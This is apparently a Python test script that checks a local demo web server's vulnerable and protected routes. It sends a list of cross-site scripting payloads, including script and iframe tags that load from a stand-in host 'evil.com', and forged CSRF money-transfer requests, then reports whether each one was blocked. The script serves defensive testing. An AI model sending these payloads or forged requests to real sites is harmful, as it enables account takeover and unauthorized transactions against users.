#!/usr/bin/env python3
"""
Collect XSS/CSRF Evidence

Drives a running demo server and records how the vulnerable and protected
routes respond to XSS payloads and forged state-changing requests, plus a
simple latency comparison between the two echo routes.

An XSS attack counts as successful when the echo area of the page (the text
between "Safe Echo:"/"Vulnerable Echo:" and "</h1>") still holds unescaped
markup that would run: a script tag, an event handler, a javascript: href,
an iframe src or an object data attribute.

Exits with status 1 unless the protected side blocks every payload and every
forged request, and the vulnerable side lets every executable payload and
every forged request through.

Usage:
    python scripts/collect_evidence.py
    python scripts/collect_evidence.py --base-url http://localhost:3000 --output ./reports

The server should run with DEBUG=true when reached over plain http, otherwise
the Secure session cookie is never sent back and the legitimate request fails.
"""

import argparse
import json
import re
import statistics
import sys
import time
from datetime import datetime, timezone
from pathlib import Path
from typing import Dict, List, Optional

import httpx

XSS_PAYLOADS: Dict[str, List[Dict[str, str]]] = {
    "basic": [
        {"name": "Basic Script Tag", "payload": '<script>alert("XSS")</script>'},
        {"name": "Script with Alert(1)", "payload": "<script>alert(1)</script>"},
        {
            "name": "External Script",
            "payload": '<script src="http://evil.com/xss.js"></script>',
        },
    ],
    "eventHandlers": [
        {"name": "IMG onerror", "payload": '<img src=x onerror=alert("XSS")>'},
        {"name": "Body onload", "payload": "<body onload=alert(1)>"},
        {"name": "Input onfocus", "payload": "<input onfocus=alert(1) autofocus>"},
        {"name": "SVG onload", "payload": "<svg onload=alert(1)>"},
    ],
    "javascript": [
        {"name": "JavaScript Protocol", "payload": 'javascript:alert("XSS")'},
        {"name": "Anchor href", "payload": '<a href="javascript:alert(1)">Click</a>'},
    ],
    "htmlInjection": [
        {"name": "Iframe Injection", "payload": '<iframe src="http://evil.com"></iframe>'},
        {"name": "Object Tag", "payload": '<object data="javascript:alert(1)"></object>'},
    ],
    "encoding": [
        {
            "name": "HTML Entities",
            "payload": "&#60;script&#62;alert(1)&#60;/script&#62;",
        },
        {"name": "URL Encoded", "payload": "%3Cscript%3Ealert(1)%3C/script%3E"},
    ],
}

CSRF_TOKEN_PATTERN = re.compile(r'name="csrfToken" value="([0-9a-f]{64})"')
ECHO_PATTERN = re.compile(r"(?:Safe|Vulnerable) Echo:\s*(.*?)</h1>", re.I | re.S)
ESCAPE_MARKERS = ("&lt;", "&gt;", "&quot;", "&#39;", "&#60;", "&#62;")
SCRIPT_TAG = re.compile(r"<script(?![^>]*nonce)[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"\son\w+\s*=", re.I)
JAVASCRIPT_HREF = re.compile(r"href\s*=\s*[\"']?javascript:", re.I)
IFRAME_SRC = re.compile(r"<iframe[^>]*src", re.I)
OBJECT_DATA = re.compile(r"<object[^>]*data", re.I)
UNSAFE_CSP_SOURCES = ("'unsafe-inline'", "'unsafe-eval'")


def extract_echo(html: str) -> Optional[str]:
    """Return the user-controlled part of an echo page, or None if absent."""
    match = ECHO_PATTERN.search(html)
    return match.group(1) if match else None


def is_escaped(content: str) -> bool:
    return any(marker in content for marker in ESCAPE_MARKERS)


def has_unescaped_danger(content: str) -> bool:
    """Check echoed content for unescaped markup that would execute in a browser."""
    if is_escaped(content):
        return False
    return any(
        pattern.search(content)
        for pattern in (SCRIPT_TAG, EVENT_HANDLER, JAVASCRIPT_HREF, IFRAME_SRC, OBJECT_DATA)
    )


def is_executable(payload: str) -> bool:
    """Whether a payload would run if reflected without any escaping."""
    return has_unescaped_danger(payload)


def check_xss(client: httpx.Client, route: str, category: str, item: dict) -> dict:
    """
    Send one payload to an echo route and judge the reflected echo area.

    A test passes when the protected route blocks the payload, or when the
    vulnerable route lets it through (inert payloads pass either way there).
    """
    response = client.get(route, params={"userInput": item["payload"]})
    csp = response.headers.get("content-security-policy")
    echo = extract_echo(response.text)
    succeeded = echo is not None and has_unescaped_danger(echo)
    executable = is_executable(item["payload"])
    expect_block = route.startswith("/protected")
    return {
        "route": route,
        "category": category,
        "payloadName": item.get("name", item["payload"]),
        "status": response.status_code,
        "executable": executable,
        "isEscaped": bool(echo) and is_escaped(echo),
        "echoPreview": (echo or "")[:200],
        "cspHeader": csp,
        "cspAllowsUnsafe": bool(csp) and any(s in csp for s in UNSAFE_CSP_SOURCES),
        "blocked": not succeeded,
        "passed": (not succeeded) if expect_block else (succeeded or not executable),
    }


def fetch_csrf_token(client: httpx.Client) -> Optional[str]:
    match = CSRF_TOKEN_PATTERN.search(client.get("/protected").text)
    return match.group(1) if match else None


def check_csrf(
    client: httpx.Client, route: str, name: str, data: dict
) -> dict:
    response = client.post(route, data=data)
    return {
        "route": route,
        "name": name,
        "status": response.status_code,
        "blocked": response.status_code == 403,
    }


def measure_latency(client: httpx.Client, route: str, requests: int) -> dict:
    timings = []
    for _ in range(requests):
        start = time.perf_counter()
        client.get(route, params={"userInput": "benchmark"})
        timings.append((time.perf_counter() - start) * 1000)
    if not timings:
        return {"route": route, "requests": 0, "meanMs": None, "p95Ms": None}
    return {
        "route": route,
        "requests": requests,
        "meanMs": round(statistics.mean(timings), 3),
        "p95Ms": round(sorted(timings)[max(int(len(timings) * 0.95) - 1, 0)], 3),
    }


def summarize(tests: List[dict]) -> dict:
    blocked = sum(1 for t in tests if t["blocked"])
    return {
        "total": len(tests),
        "blocked": blocked,
        "succeeded": len(tests) - blocked,
        "blockRate": round(100 * blocked / len(tests), 1) if tests else 0,
        "allPassed": all(t.get("passed", True) for t in tests),
        "tests": tests,
    }


def run_xss_checks(client: httpx.Client) -> dict:
    return {
        side: summarize(
            [
                check_xss(client, f"/{side}", category, item)
                for category, items in XSS_PAYLOADS.items()
                for item in items
            ]
        )
        for side in ("vulnerable", "protected")
    }


def all_passed(report: dict) -> bool:
    """
    Overall verdict: the protected side blocks every XSS payload and every
    forged request while still accepting a legitimate one, and the vulnerable
    side lets every executable payload and every forged request through.
    """
    xss, csrf = report["xss"], report["csrf"]
    return (
        xss["protected"]["blockRate"] == 100
        and xss["vulnerable"]["allPassed"]
        and csrf["protected"]["blockRate"] == 100
        and csrf["vulnerable"]["blockRate"] == 0
        and csrf["legitimateAccepted"]
    )


def collect(base_url: str, latency_requests: int) -> dict:
    report: dict = {
        "timestamp": datetime.now(timezone.utc).isoformat(),
        "baseUrl": base_url,
    }

    with httpx.Client(base_url=base_url, timeout=10) as client:
        report["xss"] = run_xss_checks(client)

    # A forged request comes from a fresh client without the victim's session.
    with httpx.Client(base_url=base_url, timeout=10) as attacker:
        forged = [
            check_csrf(attacker, "/vulnerable/transfer", "forged", {"amount": "1000"}),
            check_csrf(attacker, "/protected/transfer", "forged", {"amount": "1000"}),
        ]

    with httpx.Client(base_url=base_url, timeout=10) as victim:
        token = fetch_csrf_token(victim)
        legit = check_csrf(
            victim,
            "/protected/transfer",
            "legitimate",
            {"amount": "100", "csrfToken": token or ""},
        )

    report["csrf"] = {
        "vulnerable": summarize([forged[0]]),
        "protected": summarize([forged[1]]),
        "legitimateAccepted": legit["status"] == 200,
    }

    with httpx.Client(base_url=base_url, timeout=10) as client:
        report["performance"] = {
            "vulnerable": measure_latency(client, "/vulnerable", latency_requests),
            "protected": measure_latency(client, "/protected", latency_requests),
        }

    report["allPassed"] = all_passed(report)
    return report


def positive_int(value: str) -> int:
    number = int(value)
    if number < 1:
        raise argparse.ArgumentTypeError(f"must be at least 1, got {value}")
    return number


def main():
    parser = argparse.ArgumentParser(description="Collect XSS/CSRF evidence")
    parser.add_argument(
        "--base-url", default="http://localhost:3000", help="Demo server URL"
    )
    parser.add_argument(
        "--output", type=Path, default=Path("./reports"), help="Report directory"
    )
    parser.add_argument(
        "--requests", type=positive_int, default=100, help="Requests per latency run"
    )
    args = parser.parse_args()

    report = collect(args.base_url, args.requests)

    args.output.mkdir(parents=True, exist_ok=True)
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    report_path = args.output / f"evidence-{stamp}.json"
    report_path.write_text(json.dumps(report, indent=2))

    print(f"XSS blocked (vulnerable): {report['xss']['vulnerable']['blockRate']}%")
    print(f"XSS blocked (protected):  {report['xss']['protected']['blockRate']}%")
    print(f"CSRF blocked (vulnerable): {report['csrf']['vulnerable']['blockRate']}%")
    print(f"CSRF blocked (protected):  {report['csrf']['protected']['blockRate']}%")
    print(f"Legitimate protected request accepted: {report['csrf']['legitimateAccepted']}")
    print(f"Report written to {report_path}")

    sys.exit(0 if report["allPassed"] else 1)


if __name__ == "__main__":
    main()
